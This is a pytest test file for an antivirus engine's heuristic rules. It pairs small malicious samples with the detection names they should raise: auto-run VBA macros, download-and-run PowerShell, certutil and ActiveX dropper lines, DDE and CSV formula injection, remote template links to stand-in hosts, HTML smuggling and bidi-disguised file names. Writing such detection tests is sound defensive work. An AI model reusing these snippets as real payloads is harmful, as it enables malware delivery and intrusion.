"""The shipped rules: what each is for is found, and what merely looks like it is not. Openers are not asked here."""

import math

import pytest

from gatepost.antivirus.builtin import BuiltinEngine
from gatepost.antivirus.engine import CLEAN, Outcome, Report, ScanObject
from gatepost.antivirus.kinds import Kind

ENGINE = BuiltinEngine()
VBA, XLM = "text/x-vba", "text/x-xlm-macro"
FIELD, RELATION, LNK = "text/x-office-field", "text/x-office-relationship", "text/x-lnk-command"
RTF_OBJECT, PDF, REMINDER = "text/x-rtf-object", "text/x-pdf-action", "text/x-outlook-reminder"
PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0"


def scan(data: str | bytes, name: str = "x", declared: str = "", **facts: object) -> Report:
    raw = data.encode() if isinstance(data, str) else data
    return ENGINE.scan(ScanObject(raw, name, declared, **facts), math.inf)  # type: ignore[arg-type]


ACTIVE: list[tuple[str, str, str]] = [
    (VBA, 'Sub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub', "Heuristic.Macro.AutoRun"),
    (VBA, 'Private Sub Document_Open()\r\nCreateObject("WScript.Shell").Run x\r\nEnd Sub', "Heuristic.Macro.AutoRun"),
    (VBA, "Sub Workbook_Open()\r\nSet a = CreateObject(Chr(87) & Chr(83))\r\nEnd Sub", "Heuristic.Macro.AutoRun"),
    (VBA, 'Sub Workbook_Open()\r\nSet a = CreateObject("Scripting.Dictionary")\r\nEnd Sub', ""),
    (VBA, 'Sub AutoOpen()\r\nMsgBox "hello"\r\nEnd Sub', ""),
    (VBA, 'Sub Total()\r\nShell "calc.exe"\r\nEnd Sub', ""),
    (
        VBA,
        (
            'Declare Function URLDownloadToFile Lib "urlmon" () As Long\r\nSub AutoOpen()\r\n'
            'URLDownloadToFile 0, u, "a.exe", 0, 0\r\nShell "a.exe"\r\nEnd Sub'
        ),
        "Heuristic.Macro.Dropper",
    ),
    (
        VBA,
        'Sub Go()\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nCreateObject("WScript.Shell").Run f\r\nEnd Sub',
        "Heuristic.Macro.Downloader",
    ),
    ("text/x-vba-stomped", "anything", "Heuristic.Macro.Stomped"),
    (XLM, "name _xlnm.Auto_Open = Macro1!$A$1", "Heuristic.Macro.Excel4"),
    (XLM, 'macro sheet x\n=EXEC("calc.exe")', "Heuristic.Macro.Excel4.Run"),
    (XLM, 'macro sheet x\n=ALERT("hello")\n=HALT()', ""),
    (FIELD, 'DDEAUTO Excel.Sheet "a.xls"', "Heuristic.Office.Dde"),
    (FIELD, 'DDE c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "Heuristic.Office.DdeCommand"),
    (FIELD, "EMBED Package", ""),
    (FIELD, "MACROBUTTON Cancel address", ""),
    (FIELD, 'INCLUDETEXT "http://203.0.113.5/a.docx"', "Heuristic.Office.RemoteField"),
    (FIELD, 'INCLUDEPICTURE "http://example.org/logo.png"', ""),
    (RELATION, "attachedTemplate https://203.0.113.5/a.dotm", "Heuristic.Office.RemoteTemplate"),
    (RELATION, "attachedTemplate file:///C:\\Users\\a\\Templates\\Normal.dotm", ""),
    (RELATION, "attachedTemplate file:///\\\\server\\templates\\letter.dotx", ""),
    (RELATION, "oleObject https://example.org/a.doc", "Heuristic.Office.RemoteObject"),
    (RELATION, "oleObject mhtml:https://203.0.113.5/a.html!x-usc:b", "Heuristic.Office.RemoteObject"),
    (RELATION, "image https://example.org/logo.png", ""),
    (RTF_OBJECT, "class Equation.3\ntopic \nitem ", "Heuristic.Exploit.Equation"),
    (
        RTF_OBJECT,
        "class OLE2Link\ntopic \nitem \nlinked\nupdated when the document is opened",
        "Heuristic.Office.UpdatedObject",
    ),
    (RTF_OBJECT, "class Excel.Sheet.12\ntopic \nitem ", ""),
    (
        LNK,
        "target: C:\\Windows\\System32\\cmd.exe\narguments: /c start a.exe",
        "Heuristic.Shortcut.Command",
    ),
    (LNK, "target: C:\\Windows\\System32\\cmd.exe", ""),
    (LNK, "target: C:\\Program Files\\Editor\\editor.exe\narguments: letter.txt", ""),
    (LNK, "target: \\\\203.0.113.5\\share\\a.exe", "Heuristic.Shortcut.Remote"),
    (REMINDER, "sound: \\\\203.0.113.5\\share\\a.wav", "Heuristic.Outlook.RemoteReminder"),
    (REMINDER, "sound: //203.0.113.5@80/a.wav", "Heuristic.Outlook.RemoteReminder"),
    (REMINDER, "sound: \\\\.\\UNC\\\\host.example/a.wav", "Heuristic.Outlook.RemoteReminder"),
    (REMINDER, "sound: \\\\.\\C:\\Windows\\Media\\a.wav", ""),
    (REMINDER, "sound: C:\\Windows\\Media\\reminder.wav", ""),
    (REMINDER, "sound: reminder.wav", ""),
    (PDF, "Launch cmd.exe", "Heuristic.Pdf.Launch"),
    (FIELD, "=cmd|'/c calc.exe'!A1", "Heuristic.Office.DdeCommand"),
    (FIELD, "=Excel|'a.xls'!A1", "Heuristic.Office.Dde"),
    (PDF, "URI https://example.org/", ""),
    (PDF, "OpenAction << /JS (app.alert\\('test'\\);) /S /JavaScript >>", "Heuristic.Pdf.OpenScript"),
    (PDF, "OpenAction << /JS (this.print\\(true\\);) /S /JavaScript >>", ""),
    (PDF, "AA << /JS (AFNumber_Format\\(2\\)) /S /JavaScript >>", ""),
]


@pytest.mark.parametrize(("declared", "text", "threat"), ACTIVE)
def test_what_openers_make_visible(declared: str, text: str, threat: str) -> None:
    report = scan(text, "member", declared, inside=Kind.OLE)
    assert report.threat == threat
    assert bool(report.evidence) == bool(threat)


@pytest.mark.parametrize(("declared", "text", "threat"), [row for row in ACTIVE if row[2]])
def test_a_mail_that_says_it_is_of_such_a_type_is_none(declared: str, text: str, threat: str) -> None:
    assert scan(text, "", declared) is CLEAN
    assert scan(text, "", "text/plain") is CLEAN


SCRIPTS: list[tuple[str, str, str]] = [
    (
        "invoice.js",
        (
            'var h=new ActiveXObject("MSXML2.XMLHTTP");var s=new ActiveXObject("ADODB.Stream");s.SaveToFile(f);'
            'new ActiveXObject("WScript.Shell")'
        ),
        "Heuristic.Script.Dropper",
    ),
    ("a.vbs", 'CreateObject("WScript.Shell").Run "powershell -c calc"', "Heuristic.Script.Command"),
    ("a.js", 'var a=new ActiveXObject(q["x"](3));eval(z)', "Heuristic.Script.Obfuscated"),
    ("a.jse", "#@~^DgAAAA==\\ko$K6,JCV^GJmXIAAA==^#~@", "Heuristic.Script.Encoded"),
    ("a.ps1", "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://a/')", "Heuristic.Script.PowerShell"),
    ("a.bat", 'powershell -nop -w hidden -c "iwr http://a/b -o c"', "Heuristic.Script.PowerShell.Hidden"),
    ("a.cmd", "certutil.exe -urlcache -f http://a/b.exe b.exe", "Heuristic.Script.Batch"),
    ("a.hta", '<script>new ActiveXObject("Shell.Application")</script>', "Heuristic.Script.Hta"),
    ("a.url", "[InternetShortcut]\r\nURL=file://203.0.113.5/s/a.exe\r\n", "Heuristic.Shortcut.Url"),
    ("a.url", "[InternetShortcut]\r\nURL=https://example.org/\r\n", ""),
    ("a.iqy", "WEB\r\n1\r\nhttp://203.0.113.5/a.dat\r\n", "Heuristic.Office.Query"),
    ("a.csv", "a,b\n=cmd|'/C calc.exe'!A0,2\n", "Heuristic.Office.TableDde"),
    ("a.csv", "name,sum\nSmith & Co | partners!,-12\n", ""),
    ("jquery.min.js", "function a(b){return String.fromCharCode(b).split('')}", ""),
    ("setup.sh", "#!/bin/sh\ncurl -o a.tar.gz https://example.org/a.tar.gz\n", ""),
    ("profile.ps1", "function prompt { Set-Location $HOME }", ""),
]


@pytest.mark.parametrize(("name", "text", "threat"), SCRIPTS)
def test_scripts(name: str, text: str, threat: str) -> None:
    report = scan(text, name, "application/octet-stream")
    assert report.threat == threat or (threat and report.threat.startswith("Heuristic.Script"))
    assert scan(text, "", "text/plain") is CLEAN


def test_pages() -> None:
    smuggling = (
        '<script>var b=atob("UEsD");var u=URL.createObjectURL(new Blob([b]));a.download="a.zip";a.click()</script>'
    )
    assert scan(smuggling, "", "text/html", kind=Kind.HTML).threat == "Heuristic.Html.Smuggling"
    assert scan('<a href="a.zip" download>here</a>', "", "text/html", kind=Kind.HTML) is CLEAN
    redirect = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href=atob("aHR0")</script></svg>'
    assert scan(redirect, "voice.svg", "image/svg+xml", kind=Kind.SVG).threat == "Heuristic.Svg.Script"
    assert scan("<svg><circle r='1'/></svg>", "logo.svg", "image/svg+xml", kind=Kind.SVG) is CLEAN
    assert scan("location = 'ms-msdt:/id'", "a.html", kind=Kind.HTML).threat == "Heuristic.Html.Command"


@pytest.mark.parametrize(
    ("name", "kind", "what"),
    [
        ("invoice.pdf.exe", None, "DoubleExtension"),
        ("invoice.pdf .scr", None, "DoubleExtension"),
        ("photo.jpg____.exe", None, "DoubleExtension"),
        ("letter.doc.js", None, "DoubleExtension"),
        ("letter.txt" + " " * 40 + ".exe", None, "DoubleExtension"),
        ("letter" + " " * 40 + ".exe", None, "HiddenExtension"),
        ("letter\u202efdp.exe", None, "BidiOverride"),
        ("letter\u202etxt.pdf", None, "BidiOverride"),
        ("letter\u200f.exe", None, "BidiOverride"),
        ("photo.jpg", Kind.EXECUTABLE, "Executable"),
        ("report.pdf", Kind.EXECUTABLE, "Executable"),
        ("setup.exe", Kind.EXECUTABLE, ""),
        ("driver.sys", Kind.EXECUTABLE, ""),
        ("pdf.exe", Kind.EXECUTABLE, ""),
        ("jquery.min.js", None, ""),
        ("archive.tar.gz", None, ""),
        ("v1.2.exe", None, ""),
        ("\u05d3\u05d5\u05d7\u200f.pdf", None, ""),
        ("report 2024.final.pdf", None, ""),
        ("www.example.com", None, ""),
    ],
)
def test_names_that_deceive(name: str, kind: Kind | None, what: str) -> None:
    report = scan(PROGRAM if kind is Kind.EXECUTABLE else b"harmless", name, "application/octet-stream", kind=kind)
    assert report.threat == (f"Heuristic.Disguised.{what}" if what else "")


def test_a_program_that_is_declared_as_a_picture() -> None:
    assert scan(PROGRAM, "", "image/png", kind=Kind.EXECUTABLE).threat == "Heuristic.Disguised.Executable"
    assert scan(PROGRAM, "", "application/octet-stream", kind=Kind.EXECUTABLE) is CLEAN


@pytest.mark.parametrize(
    ("inside", "name", "kind", "threat"),
    [
        (Kind.ISO, "setup.exe", Kind.EXECUTABLE, "Heuristic.Carrier.DiskImage"),
        (Kind.ISO, "readme.txt", None, ""),
        (Kind.ZIP, "setup.exe", Kind.EXECUTABLE, ""),
        (Kind.MSG, "setup.exe", Kind.EXECUTABLE, ""),
        (Kind.ONENOTE, "embedded-1", Kind.SCRIPT, "Heuristic.Carrier.OneNote"),
        (Kind.ONENOTE, "embedded-1", Kind.PICTURE, ""),
        (Kind.OLE, "invoice.js", None, "Heuristic.Carrier.Document"),
        (Kind.OOXML, "oleObject1.bin", Kind.EXECUTABLE, "Heuristic.Carrier.Document"),
        (Kind.OOXML, "simple.txt", None, ""),
        (Kind.PDF, "a.docx", Kind.OOXML, ""),
        (Kind.PDF, "a.docm", Kind.OOXML, "Heuristic.Carrier.Pdf"),
        (Kind.HTML, "page.blob-1", Kind.ZIP, "Heuristic.Html.Smuggling"),
        (Kind.HTML, "page.data-1", Kind.PDF, ""),
    ],
)
def test_carriers(inside: Kind, name: str, kind: Kind | None, threat: str) -> None:
    report = scan(PROGRAM, name, kind=kind, inside=inside)
    assert report.threat == threat
    assert report.outcome is (Outcome.SUSPICIOUS if threat else Outcome.CLEAN)
